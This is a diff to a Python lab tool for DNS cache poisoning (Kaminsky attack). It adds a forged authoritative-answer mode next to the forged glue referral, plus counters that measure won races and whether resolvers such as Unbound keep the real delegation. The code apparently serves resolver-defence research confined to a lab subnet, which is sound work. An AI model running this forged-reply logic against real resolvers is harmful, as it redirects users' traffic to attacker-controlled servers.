@@ -58,6 +58,13 @@ class AttackerJob:
     victim_zone: str = "bank.example."
     attacker_ns: str = "ns.attacker.example."
     www: str = "www.bank.example."
+    stop_at_first_win: bool = False
+    """Stop when a forged reply is first accepted (to measure the race alone)."""
+    forgery: str = "referral"
+    """`referral`: a delegation of the victim zone to the attacker's server, with glue (what
+    a pre-2008 resolver believed); `answer`: an authoritative answer for the random name
+    plus the victim zone's NS set pointing at the attacker's server, no glue (the SEED Labs
+    Kaminsky reply: the server name resolves through the attacker's real delegation)."""
 
 
 @dataclass
@@ -70,6 +77,13 @@ class AttackerResult:
     port: int | None = None
     port_learned: bool = False
     victim_sees: list[str] = field(default_factory=list)
+    first_win_attempt: int | None = None
+    """The attempt (window) in which a forged reply was first accepted."""
+    answers_won: int = 0
+    """Windows where the resolver took a forged reply (the trigger got the attacker's address)."""
+    delegation_kept: int = 0
+    """Of those: windows after which the victim zone's real delegation was still used
+    (a forged answer accepted, the forged NS set not: e.g. Unbound's scrubbing)."""
     trigger_rtts: list[float] = field(default_factory=list)
     """Seconds from each trigger to the resolver's answer to it (window + overheads)."""
     errors: int = 0
@@ -80,14 +94,18 @@ def _in_lab(address: str) -> bool:
     return ipaddress.ip_address(address) in LAB_SUBNET
 
 
-def forged_referral(qname: dns.name.Name, job: AttackerJob) -> bytes:
-    """A reply to `qname A` delegating the whole victim zone to the attacker (ID 0)."""
+def forged_reply(qname: dns.name.Name, job: AttackerJob) -> bytes:
+    """The forged reply to `qname A` (ID 0), as `job.forgery` says."""
     query = dns.message.make_query(qname, "A")
     reply = dns.message.make_response(query)
     reply.id = 0
-    reply.flags &= ~dns.flags.AA
     reply.authority = [dns.rrset.from_text(job.victim_zone, 86400, "IN", "NS", job.attacker_ns)]
-    reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
+    if job.forgery == "answer":
+        reply.flags |= dns.flags.AA
+        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", job.attacker)]
+    else:
+        reply.flags &= ~dns.flags.AA
+        reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
     return reply.to_wire()
 
 
@@ -179,7 +197,7 @@ def run(job: AttackerJob) -> AttackerResult:
             ):
                 result.attempts += 1
                 qname = dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.victim_zone}")
-                template = ReplyTemplate(forged_referral(qname, job))
+                template = ReplyTemplate(forged_reply(qname, job))
                 trigger_sent = time.monotonic()
                 txid = client.send(qname.to_text())
                 time.sleep(TRIGGER_LEAD)
@@ -203,12 +221,20 @@ def run(job: AttackerJob) -> AttackerResult:
                 answer = client.wait(txid, job.window + 2.0)
                 if answer is not None:
                     result.trigger_rtts.append(round(time.monotonic() - trigger_sent, 6))
-                # the trigger's own answer shows a won race: the fake zone answers every
-                # name with the attacker's address (www is not asked during the attack: a
-                # cached real answer would hide the poisoned delegation until it expires)
+                # the trigger's own answer shows a won race; a fresh name shows whether the
+                # delegation is now the attacker's (www is not asked during the attack: a
+                # cached real answer would hide a poisoned delegation until it expires)
                 if job.attacker in addresses(answer, qname.to_text()):
-                    result.success = True
-                    break
+                    result.answers_won += 1
+                    if result.first_win_attempt is None:
+                        result.first_win_attempt = result.attempts
+                    if job.stop_at_first_win:
+                        break
+                    fresh = f"y{rng.getrandbits(32):08x}.{job.victim_zone}"
+                    if job.attacker in addresses(client.ask(fresh), fresh):
+                        result.success = True
+                        break
+                    result.delegation_kept += 1
             result.victim_sees = addresses(client.ask(job.www), job.www)
         finally:
             for spoofer in spoofers:
